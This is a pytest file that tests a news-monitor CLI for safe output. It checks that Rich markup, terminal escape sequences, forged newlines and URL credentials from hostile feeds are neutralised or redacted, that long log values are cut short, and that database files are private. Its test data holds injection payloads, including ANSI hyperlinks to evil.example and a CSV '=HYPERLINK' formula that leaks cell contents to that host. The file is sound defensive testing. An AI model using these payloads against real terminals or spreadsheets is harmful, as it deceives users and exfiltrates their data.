"""Issue 11, the CLI's share: hostile values print literally, credentials never print, log lines stay short and
fast, and the database is private to its user. Through the real CLI (typer's runner) and loopback servers."""

from __future__ import annotations

import csv
import io
import json
import logging
import sqlite3
import stat
import time
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import pytest
from typer.testing import CliRunner

from monitor.cli import app
from monitor.config import load_settings
from monitor.store import Store
from monitor.store.search import PG_SEARCH_FUNCTION, search_text
from tests.conftest import PROJECT
from tests.support.chat import ChatServer
from tests.support.hostile import HostileServer
from tests.support.newssite import NewsSite
from tests.support.notifykit import add_story, rule

# End to end through real servers and processes: in the full suite, not the fast loop.
pytestmark = pytest.mark.slow

# Reason phrases a hostile server sends on its status line (h11 accepts any byte but NUL, CR and LF there).
MARKUP = ["[/x]", "[link=http://evil.example/]click[/link]", "[bold red]alarm[/]", "back\\[/x]"]
ANSI = "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example/\x07linked\x1b]8;;\x07 \x1b]0;title\x1b\\ bell\x07\x9b2J"
RAID = (
    "Police raid scam compound in Poipet",
    "Police raided an online scam compound in Poipet, Cambodia, on Monday and detained 270 foreign workers. "
    "The National Committee for Counter Trafficking said the workers had been forced to defraud victims online.",
)


def invoke(*args: str) -> tuple[int, str, str]:
    # COLUMNS: a wide table, so a cell is not folded in the middle of what a test looks for
    result = CliRunner().invoke(app, list(args), env={"COLUMNS": "400"})
    return result.exit_code, result.stdout, result.stderr


def write_config(tmp_path: Path, feeds: dict[str, str]) -> Path:
    path = tmp_path / "config.toml"
    lines = [
        f'[database]\nurl = "sqlite:///{tmp_path / "monitor.db"}"',
        "[fetch]\nallow_private = true\nextract_processes = 1",
        f'[rules]\npaths = ["{PROJECT / "rules"}"]',
    ]
    lines += [f"[[feeds]]\nname = {json.dumps(name)}\nurl = {json.dumps(url)}" for name, url in feeds.items()]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("phrase", MARKUP, ids=["close-tag", "link", "style", "escaped-close"])
def test_markup_in_a_reason_phrase_prints_literally(
    tmp_path: Path,
    hostile_server: HostileServer,  # noqa: F811
    phrase: str,
) -> None:
    config = write_config(
        tmp_path,
        {
            "hostile": hostile_server.url(f"/reason/500?text={quote(phrase)}"),
            "healthy": hostile_server.url("/feed.xml"),
        },
    )
    code, out, err = invoke("--config", str(config), "poll", "--no-deliver")
    assert code == 0, err
    assert f"HTTP 500 {phrase} from" in out and "healthy" in out
    code, out, err = invoke("--config", str(config), "feeds", "list")
    assert code == 0, err
    assert f"HTTP 500 {phrase} from" in out
    code, out, _ = invoke("--config", str(config), "feeds", "list", "--format", "json")
    feeds = {f["name"]: f for f in map(json.loads, out.splitlines())}
    assert phrase in feeds["hostile"]["last_error"]  # the data keeps the phrase; only the terminal view is cleaned


def test_escape_sequences_in_a_reason_phrase_never_reach_the_terminal(
    tmp_path: Path, hostile_server: HostileServer
) -> None:  # noqa: F811
    config = write_config(tmp_path, {"hostile": hostile_server.url(f"/reason/503?text={quote(ANSI)}")})
    for args in (
        ["poll", "--no-deliver"],
        ["feeds", "list"],
        ["feeds", "list", "-f", "json"],
        ["feeds", "list", "-f", "csv"],
    ):
        code, out, err = invoke("--config", str(config), *args)
        assert code == (1 if args[0] == "poll" else 0), err  # poll: its only feed failed
        assert not any(c in out for c in "\x1b\x07\x9b\r"), (args, out)
        assert "red" in out and "linked" in out, args
    # The fetcher already drops control characters from server text, so the stored error holds none either; what
    # the terminal view does with raw sequences in stored data is checked in the stored-values test below.
    [feed] = map(json.loads, invoke("--config", str(config), "feeds", "list", "-f", "json")[1].splitlines())
    assert feed["last_error"].startswith("HTTP 503 [31mred")
    assert not any(c in feed["last_error"] for c in "\x1b\x07\x9b\r")


def test_a_feed_name_with_markup_and_escapes_prints_as_written(tmp_path: Path, hostile_server: HostileServer) -> None:  # noqa: F811
    name = "[/b]feed\x1b[2J"
    config = write_config(tmp_path, {name: hostile_server.url("/feed.xml")})
    for args in (["poll", "--no-deliver"], ["feeds", "list"], ["feeds", "remove", name]):
        code, out, err = invoke("--config", str(config), *args)
        assert code == 0, (args, err)
        assert "[/b]feed" in out and "\x1b" not in out, (args, out)


def test_feed_credentials_never_print_in_any_format(tmp_path: Path, hostile_server: HostileServer) -> None:  # noqa: F811
    url = hostile_server.url("/reason/401?text=Unauthorized&apikey=K3yValue9876").replace(
        "http://", "http://alice:S3cretPass@"
    )
    config = write_config(tmp_path, {"private": url})
    code, out, _ = invoke("--config", str(config), "poll", "--no-deliver")
    assert code == 1 and "private: failed: HTTP 401" in out  # its only feed failed
    assert "S3cretPass" not in out and "K3yValue9876" not in out and "alice" not in out
    for fmt in ("text", "json", "csv"):
        code, out, err = invoke("--config", str(config), "feeds", "list", "--format", fmt)
        assert code == 0, err
        assert "private" in out and "S3cretPass" not in out and "K3yValue9876" not in out, (fmt, out)
        assert "alice" not in out, fmt
    _, out, _ = invoke("--config", str(config), "feeds", "list", "--format", "json")
    [feed] = map(json.loads, out.splitlines())
    assert feed["url"].startswith("http://***@127.0.0.1:") and "apikey=***" in feed["url"]


def test_article_urls_print_without_credentials_and_titles_literally(tmp_path: Path, news_site: NewsSite) -> None:  # noqa: F811
    link = f"http://bob:Pw0rdValue@127.0.0.1:{news_site.base.rsplit(':', 1)[1]}/news/raid.html?token=T0kenValue77"
    title = f"{RAID[0]} [/x] \x1b]8;;http://evil.example/\x07"
    news_site.raw["/feeds/raw.xml"] = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Raw</title><link>{news_site.base}/</link>
<item><title>{title.replace("&", "&amp;")}</title><link>{link}</link><guid>raid-1</guid>
<description>{RAID[1]}</description></item></channel></rss>"""
    config = write_config(tmp_path, {"raw": f"{news_site.base}/feeds/raw.xml"})
    code, out, err = invoke("--config", str(config), "poll", "--no-deliver")
    assert code == 0, err
    for fmt in ("text", "json", "csv"):
        code, out, err = invoke("--config", str(config), "matches", "--format", fmt)
        assert code == 0, (fmt, err)
        assert "Pw0rdValue" not in out and "T0kenValue77" not in out and "\x1b" not in out, (fmt, out)
        assert "/news/raid.html" in out, fmt  # the article's path stays readable
    _, out, _ = invoke("--config", str(config), "matches")
    assert f"{RAID[0]} [/x]" in out
    _, out, _ = invoke("--config", str(config), "matches", "--format", "csv")
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["article_url"].startswith("http://127.0.0.1:")  # user info is stripped from links at the edge


def test_a_long_hostile_reason_phrase_is_logged_short_and_fast(tmp_path: Path, hostile_server: HostileServer) -> None:  # noqa: F811
    """A feed's error reaches the "feed polled" log line; 8 KB of "a-a-a-" took the old redaction about 7 s."""
    config = write_config(
        tmp_path,
        {"hostile": hostile_server.url(f"/reason/503?text={'a-' * 1900}"), "healthy": hostile_server.url("/feed.xml")},
    )
    started = time.perf_counter()
    code, out, err = invoke("--config", str(config), "-v", "poll", "--no-deliver")
    assert code == 0, err
    assert time.perf_counter() - started < 4.0
    lines = err.splitlines()
    # The fetcher cuts server text short and the log filter cuts whatever else is long: either way, one short line.
    assert any("feed polled feed=hostile status=error" in line and "a-a-a-" in line for line in lines), err
    assert max(map(len, lines)) < 1000 and "feed polled feed=healthy status=ok" in err
    assert len(out) < 5000


def test_a_16_kb_value_gives_a_short_log_line_at_once(capsys: pytest.CaptureFixture[str]) -> None:
    """The issue's attack: a 16 KB "a-a-a-…" value (a redirect's Location) in a log line took 21 s to redact."""
    from monitor.cli import _setup_logging

    _setup_logging(logging.INFO)
    log = logging.getLogger("monitor.pipeline")
    started = time.perf_counter()
    log.warning("page refused feed=%s url=%s reason=%r", "x", "http://h.example/a", "a-" * 32768 + "password=hunter22")
    log.warning("a-" * 8000 + "token=abc123456")  # a message without arguments is bounded too
    try:
        raise ValueError("a-" * 32768)
    except ValueError:
        log.exception("feed crashed feed=%s", "x")
    elapsed = time.perf_counter() - started
    lines = capsys.readouterr().err.splitlines()
    assert elapsed < 1.0
    assert max(map(len, lines)) < 700 and sum("…(+" in line for line in lines) == 3
    assert "hunter22" not in "".join(lines) and "page refused feed=x url=http://h.example/a" in lines[0]


def test_the_database_and_its_new_folders_are_private(tmp_path: Path) -> None:
    tmp_path.chmod(0o755)
    store = Store.open(f"sqlite:///{tmp_path / 'data' / 'db' / 'monitor.db'}")
    try:
        store.sync_feeds(())  # a write: SQLite makes the -wal and -shm files
        files = sorted(p.name for p in (tmp_path / "data" / "db").iterdir())
        assert files == ["monitor.db", "monitor.db-shm", "monitor.db-wal"]
        for name in files:
            assert _mode(tmp_path / "data" / "db" / name) == 0o600, name
    finally:
        store.close()
    assert _mode(tmp_path / "data") == _mode(tmp_path / "data" / "db") == 0o700
    assert _mode(tmp_path) == 0o755  # a folder that was there is the user's: left as it was


def test_an_existing_database_keeps_its_mode(tmp_path: Path) -> None:
    Store.open(f"sqlite:///{tmp_path / 'shared.db'}").close()
    (tmp_path / "shared.db").chmod(0o640)  # the user's choice, e.g. a group that reads the database
    Store.open(f"sqlite:///{tmp_path / 'shared.db'}").close()
    assert _mode(tmp_path / "shared.db") == 0o640


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_stored_hostile_values_print_literally_and_without_credentials(tmp_path: Path, chat_server: ChatServer) -> None:  # noqa: F811
    """What the store holds is data, whatever a feed sent: matches and deliveries print it as text in every format."""
    config = tmp_path / "config.toml"
    config.write_text(
        f'[database]\nurl = "sqlite:///{tmp_path / "m.db"}"\n'
        f'[channels.desk]\nurls = ["{chat_server.url()}"]\n[[routes]]\nchannels = ["desk"]\n',
        encoding="utf-8",
    )
    settings = load_settings(config)
    raid = rule("kh.raid[/x]", title="Scam [bold]raid[/bold]")
    url = "https://bob:Pw0rdValue@news.example.org/a/1?apikey=K3yValue9876"
    title = "Raid [/x] in\x1b]8;;http://evil.example/\x07 Poipet\x07\u202e\x9b2J\r\nforged line"
    with Store.open(settings.database.url) as store:
        add_story(
            store,
            settings,
            [raid],
            feed="Feed [/i]\x1b[2J",
            url=url,
            title=title,
            text="Police raided a \\scam compound in Poipet [link=http://evil.example/]x[/link].",
        )
    # The store cleans what it inserts; a database an older version wrote may still hold raw values.
    with sqlite3.connect(tmp_path / "m.db") as db:
        db.create_function(PG_SEARCH_FUNCTION, 1, search_text, deterministic=True)  # the search index's triggers
        db.execute("UPDATE articles SET title = ?, url = ?", (title, url))
    for args in (
        ["deliveries"],
        ["deliveries", "-f", "json"],
        ["matches"],
        ["matches", "-f", "json"],
        ["matches", "-f", "csv"],
    ):
        code, out, err = invoke("--config", str(config), *args)
        assert code == 0, (args, err)
        assert not any(c in out for c in "\x1b\x07\r\u202e\x9b"), (args, out)  # JSON escapes them: \\u202e
        assert "Pw0rdValue" not in out and "K3yValue9876" not in out and "news.example.org/a/1" in out, (args, out)
    for args in (["deliveries"], ["matches"]):
        out = invoke("--config", str(config), *args)[1]
        assert "Raid [/x] in Poipet forged line" in out, out  # one line: a title cannot forge a line of output
        assert "evil.example/\x07" not in out and "https://***@news.example.org/a/1?apikey=***" in out
    out = invoke("--config", str(config), "matches")[1]
    assert "kh.raid[/x]" in out and "Feed [/i]" in out and "[link=http://evil.example/]x[/link]" in out


def test_feeds_list_shows_failed_entries_and_a_moved_feed(tmp_path: Path) -> None:
    """What the pipeline records about isolated failures reaches the operator: the failed-entry count, the last
    failed entry, where a repeated 301 moved the feed from, and a redirect seen once."""
    config = write_config(
        tmp_path, {"wire": "https://user:pw@wire.example/rss", "mekong": "https://mekong.example/rss"}
    )
    settings = load_settings(config)
    store = Store.open(settings.database.url)
    try:
        wire, mekong = sorted(store.sync_feeds(settings.feeds), key=lambda f: f.name != "wire")
        store.update_feed_state(
            wire.id,
            replace(
                wire.state,
                url="https://wire.example/new-rss",
                failed_entries=2,
                last_entry_error="guid:g7: RuntimeError: [/x] boom",
            ),
        )
        store.update_feed_state(mekong.id, replace(mekong.state, redirect_pending="https://elsewhere.example/rss"))
    finally:
        store.close()
    code, out, err = invoke("--config", str(config), "feeds", "list")
    assert code == 0, err
    wire_line = next(line for line in out.splitlines() if "wire" in line)
    assert " 2 " in wire_line and "last failed entry: guid:g7: RuntimeError: [/x] boom" in wire_line
    assert "moved from https://***@wire.example/rss to https://wire.example/new-rss" in wire_line
    assert "pw@" not in out and "redirect to https://elsewhere.example/rss seen once" in out
    lines = {
        f["name"]: f
        for f in map(json.loads, invoke("--config", str(config), "feeds", "list", "-f", "json")[1].splitlines())
    }
    assert lines["wire"]["failed_entries"] == 2 and lines["wire"]["config_url"] == "https://***@wire.example/rss"
    assert lines["mekong"]["redirect_pending"] == "https://elsewhere.example/rss"


def test_csv_output_never_starts_a_cell_with_a_formula(tmp_path: Path, chat_server: ChatServer) -> None:  # noqa: F811
    """A title such as '=HYPERLINK(…)' would run in the spreadsheet an analyst opens the CSV with."""
    config = tmp_path / "config.toml"
    config.write_text(f'[database]\nurl = "sqlite:///{tmp_path / "m.db"}"\n', encoding="utf-8")
    settings = load_settings(config)
    with Store.open(settings.database.url) as store:
        add_story(
            store,
            settings,
            [rule("kh.raid")],
            feed="@feed",
            url="https://news.example.org/a/1",
            title='=HYPERLINK("http://evil.example/?"&A1,"Raid in Poipet")',
            text="Police raided a scam compound in Poipet.",
        )
    code, out, err = invoke("--config", str(config), "matches", "--format", "csv")
    assert code == 0, err
    [row] = csv.DictReader(io.StringIO(out))
    assert row["article_title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Raid in Poipet")'
    assert row["article_feed"] == "'@feed" and row["rule"] == "kh.raid"
